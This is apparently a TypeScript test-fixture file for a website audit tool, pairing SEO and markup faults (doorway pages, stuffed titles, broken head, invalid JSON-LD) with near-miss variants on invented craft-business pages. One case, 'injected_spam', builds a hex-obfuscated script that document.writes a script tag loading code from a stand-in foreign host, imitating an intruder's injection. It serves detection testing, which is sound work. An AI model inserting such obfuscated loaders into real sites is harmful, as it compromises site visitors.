import {
  ABOUT,
  type AccuracyCase,
  add,
  CARGO,
  CHAIN,
  CITY,
  copyPage,
  edit,
  full,
  HOME,
  head,
  link,
  main,
  nothing,
  RAIN,
  TOUR,
} from "./planting.ts";
import { sitemapXml } from "./sound_site.ts";
import { answer, type World } from "./world.ts";

const LOST = '<div role="button" tabindex="0" onclick="mostraTelefono()">Chiamaci</div>';
const DEFINED = "<script>function mostraTelefono() { document.body.classList.toggle('tel'); }</script>";
/** `document.write` with an element that loads a foreign file, as an intruder spells it. */
const WRITTEN = '<script src="//stat-cdn7.example/k.js"></script>';

/** Faults of an upholsterer, a beekeeper, a stove fitter and a dance school beside what looks like them. */
export const WAY_CASES: AccuracyCase[] = [
  {
    rule: "crawl_slowed",
    fault: nothing,
    faultFacts: (facts) => {
      facts.robots.crawl_delay_seconds = 20;
      facts.robots.waited_seconds = 1.5;
      facts.unread = 40;
      facts.stop_reason = "deadline";
    },
    nearMiss: nothing,
    nearMissFacts: (facts) => {
      facts.robots.crawl_delay_seconds = 1;
      facts.robots.waited_seconds = 1;
    },
  },
  {
    rule: "title_keyword_list",
    fault: (w) =>
      titled(w, TOUR, "Pec na pelety, Pec na drevo, Pec do bytu, Lacná pec, Pec akcia, Pec Žilina, Pec cena"),
    nearMiss: (w) => titled(w, TOUR, "Pec na pelety alebo na drevo? Ktorá pec sa hodí do bytu | Oakhill"),
  },
  {
    rule: "title_stuffed",
    fault: (w) => titled(w, TOUR, "Bal swing, bal musette, bal folk, petit bal | Oakhill"),
    nearMiss: (w) => titled(w, TOUR, "Der Tanzkurs für die, die an der Bar und an der Wand stehen | Oakhill"),
  },
  {
    rule: "doorway_pages",
    fault: (w) => upholsterers(w, (town) => `Estofador em ${town}`, ["Braga", "Aveiro", "Leiria"]),
    // One of a series: only its number is another.
    nearMiss: (w) => upholsterers(w, (_, __, at) => `Curso de estofador ${at + 1}`, ["Braga", "Aveiro", "Leiria"]),
  },
  {
    rule: "doorway_pages",
    fault: (w) => upholsterers(w, (town) => `Estofador em ${town}`, ["Tavira", "Loulé", "Silves"]),
    nearMiss: (w) =>
      upholsterers(
        w,
        (town) => `Estofador em ${town}`,
        ["Tavira", "Loulé", "Silves"],
        (at) =>
          [
            "Rua Direita, com Rui e Marta Pires",
            "Largo da Sé, com Inês Cruz e Zé Lobo",
            "Travessa Alta, com Nuno Reis",
          ][at]!,
      ),
  },
  {
    rule: "lang_mismatch",
    fault: (w) => hidden(w, "sv", BEES_EN),
    nearMiss: (w) => hidden(w, "sv", BEES_SV),
  },
  {
    rule: "theme_demo_pages",
    fault: (w) => {
      listed(w, "/om-os-demo/", "<h1>Our team</h1><h2>John Doe</h2><p>CEO</p><h2>Jane Doe</h2><p>Art Director</p>");
    },
    // A legal page with sample data is to be filled in.
    nearMiss: (w) => {
      listed(
        w,
        "/de/impressum/",
        `<h1>Impressum</h1><p>Max Mustermann<br>Musterstraße 1<br>12345 Musterstadt</p>${IMPRINT}`,
      );
      edit(w, "/de/impressum/", ['<html lang="en">', '<html lang="de">']);
    },
  },
  {
    rule: "head_broken",
    fault: (w) => edit(w, TOUR, ["<title>", 'link rel="preload" href="/a.woff2">\n<title>']),
    nearMiss: (w) => edit(w, TOUR, ["<title>", '<!-- link rel="preload" href="/a.woff2"> -->\n<title>']),
  },
  {
    rule: "head_broken",
    fault: (w) => edit(w, CITY, ["<!doctype html>", "puhe<!doctype html>"]),
    nearMiss: (w) => edit(w, CITY, ["<!doctype html>", "<!-- puhe -->\n<!doctype html>"]),
  },
  {
    rule: "handler_missing",
    fault: (w) => {
      main(w, ABOUT, LOST + DEFINED);
      main(w, CITY, LOST);
    },
    // Another file that this page alone loads may define it.
    nearMiss: (w) => {
      main(w, ABOUT, LOST + DEFINED);
      main(w, CITY, LOST);
      add(w, "/tel.js", "function mostraTelefono() {}", { "content-type": "text/javascript" });
      head(w, CITY, '<script src="/tel.js" defer></script>');
    },
  },
  {
    rule: "empty_href",
    fault: (w) => main(w, ABOUT, '<p><a href="#">Bienenwachs bestellen</a></p>'),
    nearMiss: (w) =>
      main(w, ABOUT, `<p><a href="#" onclick="mostraTelefono()">Bienenwachs bestellen</a></p>${DEFINED}`),
  },
  {
    rule: "chat_number_national",
    fault: (w) => {
      main(w, HOME, '<p><a href="tel:+351 912 345 987">912 345 987</a></p>');
      main(w, TOUR, '<p><a href="https://wa.me/912345987?text=Bom%20dia">WhatsApp</a></p>');
    },
    nearMiss: (w) => {
      main(w, HOME, '<p><a href="tel:912 345 987">912 345 987</a></p>');
      main(w, TOUR, '<p><a href="https://wa.me/351912345987?text=Bom%20dia">WhatsApp</a></p>');
    },
  },
  {
    rule: "offer_without_contact",
    fault: (w) => services(w, ""),
    nearMiss: (w) => services(w, '<p><a href="/contact/">Ota yhteyttä</a></p>'),
  },
  {
    rule: "json_ld_invalid",
    fault: (w) => data(w, '"name": "Imkerei Wabe", // unser Name'),
    nearMiss: (w) => data(w, '"url": "https://oakhillcycles.com//", "name": "Imkerei // Wabe",'),
  },
  {
    rule: "robots_sitemap_invalid",
    fault: (w) => otherSitemap(w, "https://gdansk.oakhillcycles.com/kursy/"),
    nearMiss: (w) => otherSitemap(w, full(CARGO)),
  },
  {
    rule: "injected_spam",
    fault: (w) =>
      main(
        w,
        RAIN,
        `<script>var q=[${coded("document")},${coded(WRITTEN, true)}];window[q[0]][${coded("write")}](q[1]);</script>`,
      ),
    // Signs of markup in codes, letters as they are: what programs make of texts.
    nearMiss: (w) =>
      main(
        w,
        RAIN,
        String.raw`<script>document.getElementById("main").dataset.note = "\x3cp\x3eHonig \x26 Wachs vom Hof, \x22kalt\x22 geschleudert\x3c/p\x3e\x3cp\x3eAb Hof \x26 Markt\x3c/p\x3e";</script>` +
          `<script>document.write(${coded('<a href="mailto:imker@oakhillcycles.com">imker@oakhillcycles.com</a>', true)});</script>`,
      ),
  },
];

const BEES_EN =
  "<p>We keep our hives on the edge of the heath, where the bees find heather until the end of September. In the spring we look at every colony, and in the summer we take the honey twice. You may come and see how it is done, and we will show you what the bees need before the winter comes.</p>";
const IMPRINT =
  "<p>Verantwortlich für den Inhalt dieser Seite ist die Inhaberin der Imkerei. Wir sind nicht bereit und nicht verpflichtet, an einem Verfahren vor einer Stelle für Verbraucher teilzunehmen. Für Links zu anderen Seiten haften deren Betreiber, und wir prüfen sie, wenn wir von einem Fehler hören.</p>";
const BEES_SV =
  "<p>Vi har våra kupor vid kanten av heden, där bina hittar ljung ända till slutet av september. På våren ser vi till varje samhälle, och på sommaren tar vi honungen två gånger. Ni får gärna komma och se hur det går till, och vi visar vad bina behöver innan vintern kommer.</p>";

function titled(w: World, path: string, title: string): void {
  edit(w, path, [/<title>[^<]*/, `<title>${title}`]);
}

/** Pages of one text for several towns; each names its district. */
function upholsterers(
  w: World,
  name: (town: string, district: string, at: number) => string,
  towns: readonly string[],
  own: (at: number) => string = () => "",
): void {
  for (const [at, town] of towns.entries()) {
    const path = `/estofos-${at}/`;
    const district = ["Minho", "Beira", "Ribatejo"][at]!;
    const title = name(town, district, at);
    const text = `Restauramos sofás, cadeiras e poltronas à mão na zona de ${district}. Tiramos o tecido velho, vemos as molas e as cintas, mostramos amostras em casa e dizemos o preço antes de começar. O trabalho leva duas semanas e vamos buscar e entregar as peças sem custo. Damos três anos de garantia sobre as costuras e sobre a espuma, e quem quiser pode ver a oficina durante a semana. ${own(at)}`;
    add(
      w,
      path,
      `<!doctype html><html lang="pt"><head><meta charset="utf-8"><title>${title}</title><link rel="canonical" href="${full(path)}"></head><body><main><h1>${title}</h1><p>${text}</p></main><a href="/">Oakhill</a></body></html>`,
    );
    link(w, HOME, path);
  }
}

/** A page that search engines are told not to list, in the language of its markup or in another one. */
function hidden(w: World, lang: string, text: string): void {
  copyPage(w, ABOUT, `/${lang}/bin/`);
  edit(w, `/${lang}/bin/`, [/<main[\s\S]*<\/main>/, `<main id="main"><h1>Våra bin</h1>${text}</main>`]);
  edit(w, `/${lang}/bin/`, ['<html lang="en">', `<html lang="${lang}">`]);
  head(w, `/${lang}/bin/`, '<meta name="robots" content="noindex">');
  link(w, HOME, `/${lang}/bin/`);
}

/** In the sitemap, and linked from nowhere. */
function listed(w: World, path: string, text: string): void {
  copyPage(w, ABOUT, path);
  edit(w, path, [/<main[\s\S]*<\/main>/, `<main id="main">${text}</main>`]);
  edit(w, "/sitemap.xml", ["</urlset>", `<url><loc>${full(path)}</loc></url>\n</urlset>`]);
}

/** Three services without the site's footer and menu. */
function services(w: World, way: string): void {
  for (const [at, name] of ["Saunan kiuas", "Takan muuraus", "Piipun nuohous"].entries()) {
    const path = `/palvelut/tyo-${at}/`;
    const rows = Array.from(
      { length: 12 },
      (_, row) =>
        `<p>${name}: vaihe ${row + 1} tehdään käsin, tiili ${row * 7 + at} kerrallaan, ja hinta sovitaan etukäteen ennen työn alkua.</p>`,
    );
    add(
      w,
      path,
      `<!doctype html><html lang="fi"><head><meta charset="utf-8"><title>${name} | Oakhill</title><link rel="canonical" href="${full(path)}"></head><body><main><h1>${name}</h1>${rows.join("")}${way}</main><a href="/blog/">Alkuun</a></body></html>`,
    );
    link(w, HOME, path);
  }
  edit(w, "/blog/", [/Call [^<]*/, ""]);
}

function data(w: World, line: string): void {
  head(
    w,
    CHAIN,
    `<script type="application/ld+json">{"@context": "https://schema.org", ${line}\n"@type": "Thing"}</script>`,
  );
}

/** robots.txt names a sitemap that lies on another host. */
function otherSitemap(w: World, lists: string): void {
  const map = "https://cdn.oakhillcycles.com/map.xml";
  edit(w, "/robots.txt", [/$/, `Sitemap: ${map}\n`]);
  const body = sitemapXml([CITY]).replace(full(CITY), lists);
  w.answers.set(map, answer(body, { "content-type": "application/xml" }));
}

/** A text with each letter, or with every sign, as a code. */
function coded(text: string, isWhole = false): string {
  const code = (sign: string) => `\\x${sign.charCodeAt(0).toString(16).padStart(2, "0")}`;
  return `'${text.replace(isWhole ? /[\s\S]/g : /\w/g, code)}'`;
}
